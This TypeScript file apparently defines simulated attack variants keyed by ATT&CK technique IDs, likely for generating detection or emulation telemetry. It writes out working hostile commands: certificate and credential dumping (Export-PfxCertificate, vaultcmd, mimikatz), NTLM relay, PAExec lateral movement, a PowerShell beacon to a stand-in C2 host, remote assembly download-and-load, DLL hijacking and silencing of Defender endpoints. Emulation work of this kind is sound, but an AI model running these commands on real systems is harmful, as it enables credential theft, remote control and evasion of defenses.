import { v } from "../dsl";
import type { Variant } from "../types";

/** Extra named-tool variants (see ../extras.ts). */
export const extrasD: Readonly<Record<string, readonly Variant[]>> = {
  "T1552.004": [
    v(
      "export-pfx-cli",
      [
        "powershell.exe -c \"Get-ChildItem Cert:\\LocalMachine\\My | Export-PfxCertificate -FilePath C:\\Users\\Public\\{{rand}}.pfx -Password (ConvertTo-SecureString -String 'Passw0rd' -Force -AsPlainText)\"",
      ],
      { elevated: true },
    ),
  ],
  T1555: [
    v(
      "vaultcmd-ps",
      [
        { ps: 'vaultcmd /listcreds:"Windows Credentials" /all; vaultcmd /listcreds:"Web Credentials" /all' },
        { cmd: 'C:\\Windows\\system32\\VaultCmd.exe /listcreds:"Windows Credentials" /all', parent: "sh" },
      ],
      { shell: "ps" },
    ),
  ],
  "T1555.004": [
    v(
      "vaultcmd-ps",
      [
        { ps: 'vaultcmd /listcreds:"Windows Credentials" /all' },
        { cmd: 'C:\\Windows\\system32\\VaultCmd.exe /listcreds:"Windows Credentials" /all', parent: "sh" },
      ],
      { shell: "ps" },
    ),
    v("dpapi-credhist", [
      {
        cmd: '{{tools}}\\mimikatz.exe "dpapi::credhist /in:{{appdata}}\\Microsoft\\Protect\\CREDHIST" exit',
        reads: ["{{appdata}}\\Microsoft\\Protect\\CREDHIST"],
      },
    ]),
  ],
  "T1557.001": [
    v(
      "ntlmrelayx",
      [
        {
          cmd: '"C:\\Program Files\\Python311\\python.exe" ntlmrelayx.py -t smb://{{srvip}} -smb2support -socks',
          cwd: "{{tools}}\\impacket\\examples",
        },
      ],
      { elevated: true },
    ),
  ],
  "T1559.002": [
    v("enable-dde", [
      {
        cmd: 'reg add "HKCU\\Software\\Microsoft\\Office\\16.0\\Word\\Security" /v AllowDDE /t REG_DWORD /d 2 /f',
        reg: [["HKCU\\Software\\Microsoft\\Office\\16.0\\Word\\Security", "AllowDDE", "2", "REG_DWORD"]],
      },
    ]),
  ],
  "T1564.003": [
    v("start-min-hidden", [
      { cmd: "cmd.exe /c start /min /b C:\\Windows\\Temp\\{{rand}}.exe", as: "c" },
      { cmd: "C:\\Windows\\Temp\\{{rand}}.exe", parent: "c", keep: true },
    ]),
  ],
  "T1569.002": [
    v(
      "net-start",
      [
        'sc create {{name}} binPath= "C:\\Windows\\Temp\\{{rand}}.exe" start= demand',
        {
          cmd: "net start {{name}}",
          then: [
            {
              id: "svc",
              kind: "service.install",
              proc: "@services",
              name: "{{name}}",
              imagePath: "C:\\Windows\\Temp\\{{rand}}.exe",
            },
          ],
        },
        { cmd: "C:\\Windows\\Temp\\{{rand}}.exe", parent: "@services", user: "@system" },
      ],
      { elevated: true },
    ),
    v("paexec", [
      {
        cmd: "{{tools}}\\paexec.exe \\\\{{srv}} -u {{domain}}\\{{admin}} -p ******** -s -c {{tools}}\\{{rand}}.exe",
        net: [["@server", 445]],
      },
      {
        cmd: "C:\\Windows\\PAExec-{{n}}-{{me}}.exe",
        as: "pa",
        host: "@server",
        parent: "@services",
        user: "@system",
        pipes: ["\\PAExec-{{n}}-{{me}}.exe"],
        then: [
          {
            id: "svc",
            kind: "service.install",
            host: "@server",
            proc: "@services",
            name: "PAExec-{{n}}-{{me}}",
            imagePath: "%SystemRoot%\\PAExec-{{n}}-{{me}}.exe",
          },
        ],
      },
      { cmd: "C:\\Windows\\{{rand}}.exe", host: "@server", parent: "pa" },
    ]),
  ],
  T1567: [
    v(
      "telegram-bot-upload",
      [
        {
          cmd: "{{appdata}}\\{{name}}.exe",
          reads: ["{{tmp}}\\{{rand}}.zip"],
          net: [["api.telegram.org", 443]],
        },
      ],
      { shell: "none" },
    ),
  ],
  T1573: [
    v(
      "ps-sslstream",
      [
        {
          ps: "$c = New-Object Net.Sockets.TcpClient('{{c2}}', 443); $s = New-Object System.Net.Security.SslStream($c.GetStream(), $false, ({$true} -as [Net.Security.RemoteCertificateValidationCallback])); $s.AuthenticateAsClient('{{c2}}'); $w = New-Object IO.StreamWriter($s); $w.WriteLine((whoami))",
        },
      ],
      { shell: "ps" },
    ),
  ],
  "T1573.001": [
    v(
      "ps-sslstream",
      [
        {
          ps: "$c = New-Object Net.Sockets.TcpClient('{{c2}}', 443); $s = New-Object System.Net.Security.SslStream($c.GetStream(), $false, ({$true} -as [Net.Security.RemoteCertificateValidationCallback])); $s.AuthenticateAsClient('{{c2}}'); $w = New-Object IO.StreamWriter($s); $w.WriteLine((whoami))",
        },
      ],
      { shell: "ps" },
    ),
  ],
  "T1573.002": [
    v(
      "ps-sslstream",
      [
        {
          ps: "$c = New-Object Net.Sockets.TcpClient('{{c2}}', 443); $s = New-Object System.Net.Security.SslStream($c.GetStream(), $false, ({$true} -as [Net.Security.RemoteCertificateValidationCallback])); $s.AuthenticateAsClient('{{c2}}'); $w = New-Object IO.StreamWriter($s); $w.WriteLine((whoami))",
          net: [["{{c2}}", 443]],
        },
      ],
      { shell: "ps" },
    ),
  ],
  "T1574.007": [
    v(
      "mock-windows-dir",
      [
        {
          ps: "New-Item -ItemType Directory '\\\\?\\C:\\Windows \\System32'; Copy-Item C:\\Windows\\System32\\ComputerDefaults.exe 'C:\\Windows \\System32\\'; Copy-Item $env:TEMP\\{{rand}}.dll 'C:\\Windows \\System32\\propsys.dll'",
          files: ["C:\\Windows \\System32\\ComputerDefaults.exe", "C:\\Windows \\System32\\propsys.dll"],
        },
        {
          cmd: '"C:\\Windows \\System32\\ComputerDefaults.exe"',
          parent: "sh",
          loads: ["C:\\Windows \\System32\\propsys.dll"],
        },
      ],
      { shell: "ps" },
    ),
  ],
  "T1614.001": [
    v("chcp-cmd-c", [
      { cmd: "cmd.exe /c chcp", as: "c" },
      { cmd: "chcp", image: "C:\\Windows\\System32\\chcp.com", parent: "c" },
    ]),
  ],
  T1615: [
    v("gathernetworkinfo", ["cscript.exe C:\\Windows\\System32\\gatherNetworkInfo.vbs"], { elevated: true }),
  ],
  T1620: [
    v(
      "reflection-load",
      [
        {
          ps: "$b = (New-Object Net.WebClient).DownloadData('https://{{c2}}/{{rand}}.bin'); $a = [Reflection.Assembly]::Load($b); $a.GetType('Loader.Program').GetMethod('Main').Invoke($null, @(,[string[]]@()))",
          net: [["{{c2}}", 443]],
        },
      ],
      { shell: "ps" },
    ),
  ],
  T1565: [
    v(
      "nrpt-rule",
      [
        {
          ps: "Add-DnsClientNrptRule -Namespace '.endpoint.security.microsoft.com' -NameServers 127.0.0.1 -Comment 'Silenced'",
        },
      ],
      { shell: "ps", elevated: true },
    ),
  ],
};
